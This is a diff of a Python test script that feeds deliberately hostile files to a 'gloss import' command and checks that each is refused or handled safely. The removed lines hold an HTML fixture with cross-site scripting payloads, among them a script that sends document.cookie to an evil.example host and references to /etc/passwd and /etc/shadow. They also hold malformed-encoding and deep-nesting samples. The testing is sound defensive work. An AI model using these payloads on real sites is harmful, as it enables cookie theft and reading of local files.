@@ -2,11 +2,11 @@
 """Hostile input: `gloss import` on files made to hurt a reader, each within a time and memory
 bound, each with a clear refusal or a safe result, and the project clean afterwards.
 
-    hostile.py GLOSS [--scale N] [--write-small DIR] [--keep DIR]
+    hostile.py GLOSS [--scale N] [--keep DIR] [--only REGEX]
 
-The big files (50 MB) are generated here, in a temporary folder; the small ones are also committed
-under tests/data/hostile/ (--write-small writes them) to seed the fuzzers. --scale multiplies the
-time and memory bounds (10 s and 500 MB for a Release build; ctest passes more for ASan).
+The small files are committed under tests/data/hostile/ (they also seed the fuzzers); the big ones
+(50 MB) are generated here, in a temporary folder. --scale multiplies the time and memory bounds
+(10 s and 500 MB for a Release build; ctest passes more for ASan).
 """
 import argparse
 import json
@@ -21,52 +21,17 @@ import time
 MB = 1024 * 1024
 
 
+SMALL = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "data", "hostile")
+
+
 def small_files():
-    """name -> bytes: the hostile files small enough to commit."""
+    """name -> bytes: the small hostile files, committed under tests/data/hostile/ (which also
+    seeds the fuzzers; its README says what each one is)."""
     f = {}
-    f["script.html"] = b"""<!DOCTYPE html>
-<html><head><title>&lt;img src="file:///etc/passwd"&gt;Harmless &lt;b&gt;headline&lt;/b&gt;</title>
-<meta name="date" content="2018-06-09">
-<meta name="author" content="&lt;img src=&quot;http://evil.example/a.png&quot;&gt;">
-<script>document.location='http://evil.example/steal?c='+document.cookie</script>
-<script src="http://evil.example/x.js"></script>
-<link rel="stylesheet" href="file:///etc/passwd">
-<style>body{background:url(file:///etc/shadow)}</style>
-<base href="http://evil.example/">
-</head>
-<body onload="alert('onload')">
-<article>
-<h1 onclick="alert(1)">&lt;img src="file:///etc/passwd"&gt;Harmless &lt;b&gt;headline&lt;/b&gt;</h1>
-<p onmouseover="alert('hover')">KABUL, June 9 (Reuters) - The ceasefire held on Saturday.<img src="file:///etc/passwd" onerror="alert('img')"></p>
-<p>Officials met in Doha. <img src="http://evil.example/pixel.gif" width="1" height="1"><a href="file:///home/user/secret.txt">a local file</a> and <a href="http://evil.example/">a web page</a> and <a href="javascript:alert(2)">a script link</a>.</p>
-<iframe src="http://evil.example/frame"></iframe>
-<object data="file:///etc/passwd"></object>
-<svg onload="alert(3)"><script>alert(4)</script></svg>
-<p>The talks resume next week.<script>alert(5)</script><noscript><img src="http://evil.example/noscript.gif"></noscript></p>
-</article>
-</body></html>
-"""
-    # Truncated UTF-8: a 3-byte sequence cut after its first byte, at the end and mid-text.
-    f["truncated-utf8.txt"] = "Headline\n\nThe mayor said \u2014 nothing.\n".encode() + b"Cut \xe2\x80 here. And at the end \xe2"
-    # Overlong forms: '/' as 2 and 3 bytes, NUL as 2 bytes (C0 80).
-    f["overlong-utf8.txt"] = b"Overlong\n\nA path ..\xc0\xaf..\xe0\x80\xaf etc/passwd and a \xc0\x80 NUL.\n"
-    # A lone surrogate encoded in UTF-8 (CESU-style ED A0 80), and an unpaired low one.
-    f["lone-surrogate-utf8.txt"] = b"Surrogates\n\nHigh \xed\xa0\x80 alone and low \xed\xb0\x80 alone.\n"
-    # UTF-16LE with a BOM, a high surrogate followed by a plain letter.
-    f["lone-surrogate-utf16.txt"] = b"\xff\xfe" + "Surrogates\n\nA lone ".encode("utf-16-le") + b"\x00\xd8" + "x here.\n".encode("utf-16-le")
-    # UTF-16LE whose last code unit is cut in half.
-    f["truncated-utf16.txt"] = b"\xff\xfe" + "Cut in half\n\nThe body.".encode("utf-16-le") + b"\x41"
-    # A NUL well past the binary probe (8 KiB), in the middle of a line.
-    para = b"The committee met again on Tuesday and adjourned without a vote. " * 10 + b"\n\n"
-    body = para * 40
-    f["nul-middle.txt"] = b"Text with a NUL\n\n" + body[: len(body) // 2] + b"before\x00after" + body[len(body) // 2 :]
-    rnd = random.Random(9)
-    f["random.bin"] = bytes(rnd.randrange(256) for _ in range(4096))
-    # Random bytes without NUL: looks like Windows-1252 text to the decoder.
-    f["random-no-nul.txt"] = bytes(rnd.randrange(1, 256) for _ in range(4096))
-    f["deep-small.json"] = b"[" * 5000 + b"]" * 5000
-    f["deep-small.html"] = b"<html><body>" + b"<div>" * 5000 + b"deep text" + b"</div>" * 5000 + b"</body></html>"
-    f["wide-small.csv"] = (",".join(f"c{i}" for i in range(2000)) + "\n" + ",".join("x" for _ in range(2000)) + "\n").encode()
+    for name in sorted(os.listdir(SMALL)):
+        if name != "README.md":
+            with open(os.path.join(SMALL, name), "rb") as src:
+                f[name] = src.read()
     return f
 
 
@@ -151,17 +116,9 @@ def main():
     ap.add_argument("gloss")
     ap.add_argument("--scale", type=float, default=1.0, help="multiplies the time bound")
     ap.add_argument("--memory-scale", type=float, default=None, help="multiplies the memory bound (default: --scale)")
-    ap.add_argument("--write-small")
     ap.add_argument("--keep")
     ap.add_argument("--only")
     args = ap.parse_args()
-    if args.write_small:
-        os.makedirs(args.write_small, exist_ok=True)
-        for name, data in small_files().items():
-            with open(os.path.join(args.write_small, name), "wb") as out:
-                out.write(data)
-        return 0
-
     time_bound = 10.0 * args.scale
     mem_bound = 500.0 * (args.memory_scale if args.memory_scale is not None else args.scale)
     tmp = tempfile.TemporaryDirectory(prefix="gloss-hostile-")
@@ -174,7 +131,7 @@ def main():
     env = dict(os.environ)
     env.pop("GLOSS_PROJECT", None)
 
-    failures = []
+    failures = [f"{name} (no expectation for it in EXPECTED)" for name in small_files() if name not in EXPECTED]
     print(f"bounds: {time_bound:.0f} s, {mem_bound:.0f} MB resident")
     for name, (status, imported, refusal) in EXPECTED.items():
         if args.only and not re.search(args.only, name):
